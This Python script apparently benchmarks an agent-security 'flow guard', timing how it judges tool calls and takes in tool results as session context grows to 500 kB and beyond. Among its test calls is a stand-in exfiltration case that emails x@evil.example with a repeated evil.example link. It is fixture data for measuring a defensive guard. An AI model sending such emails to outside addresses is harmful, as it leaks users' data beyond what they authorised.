"""What the flow guard costs: judging a call, and taking a result, against how much the session has read.

Judging must not grow with the context, taking must grow with the new data alone. Absolute figures are this machine's; the
ratios in the last column travel.
"""

from __future__ import annotations

import statistics
import time
from collections.abc import Callable
from typing import Any

from agent_os.core.principal import Principal
from agent_os.guards.flow.session import FlowSession

ROUNDS = 300
PROMPT = "Delete the largest file, then send Anna Berg an email that it is done."
CALLS: dict[str, tuple[str, dict[str, Any]]] = {
    "read": ("get_page", {"page": "9"}),
    "handle, chosen by size": ("delete_file", {"file_id": "f7"}),
    "recipient and text": (
        "send_email",
        {"to": ["anna.berg@corp.example"], "subject": "Done", "body": "It is done. " * 20},
    ),
    "stranger and link": (
        "send_email",
        {"to": ["x@evil.example"], "subject": "a", "body": "see https://evil.example/a " * 20},
    ),
}


def session(context_chars: int) -> FlowSession:
    """Return a session that has read this much text."""
    made = FlowSession(principal=Principal(user="me@corp.example"))
    made.prompt(PROMPT)
    made.take(
        "list_files", {}, [{"id": f"f{n}", "size": n * (1 if n != 7 else 99), "name": f"n{n}.txt"} for n in range(26)]
    )
    made.take("search_contacts", {"name": "Anna Berg"}, [{"name": "Anna Berg", "email": "anna.berg@corp.example"}])
    words = " ".join(f"word{n} lorem{n % 977} ipsum dolor" for n in range(context_chars // 28 + 1))
    made.take("get_page", {"page": "1"}, words[:context_chars])
    return made


def median_us(work: Callable[[], object], rounds: int = ROUNDS) -> tuple[float, float]:
    """Return the median and the 99th percentile of a call, in microseconds."""
    times = []
    for _ in range(rounds):
        start = time.perf_counter()
        work()
        times.append((time.perf_counter() - start) * 1e6)
    times.sort()
    return statistics.median(times), times[int(len(times) * 0.99)]


def main() -> None:
    """Print both tables."""
    print(
        f"{'judge':<26}"
        + "".join(f"{size // 1000:>8} kB" for size in (5_000, 50_000, 500_000))
        + "   p99 at 50 kB   500/5"
    )
    sessions = {size: session(size) for size in (5_000, 50_000, 500_000)}
    for name, (tool, args) in CALLS.items():
        row = {
            size: median_us(lambda made=made, tool=tool, args=args: made.judge(tool, args))  # type: ignore[misc]
            for size, made in sessions.items()
        }
        shown = "".join(f"{row[size][0]:>8.0f} us" for size in sessions)
        print(f"{name:<26}{shown}{row[50_000][1]:>12.0f} us{row[500_000][0] / row[5_000][0]:>8.2f}")
    print(f"\n{'take one result':<26}{'us per kB':>12}   against 50 kB on an empty session")
    base = 0.0
    for context in (0, 500_000, 2_000_000):
        for size in (5_000, 50_000, 500_000):
            made = session(context)
            text = " ".join(f"fresh{n} text{n % 97}" for n in range(size // 14))
            start = time.perf_counter()
            made.take("get_page", {"page": "2"}, text)
            per_kb = (time.perf_counter() - start) * 1e6 / (len(text) / 1000)
            base = base or (per_kb if size == 50_000 else 0.0)
            ratio = f"{per_kb / base:.2f}" if base else "-"
            print(f"{size // 1000:>5} kB after {context // 1000:>5} kB{'':<6}{per_kb:>12.0f}   {ratio}")


if __name__ == "__main__":
    main()
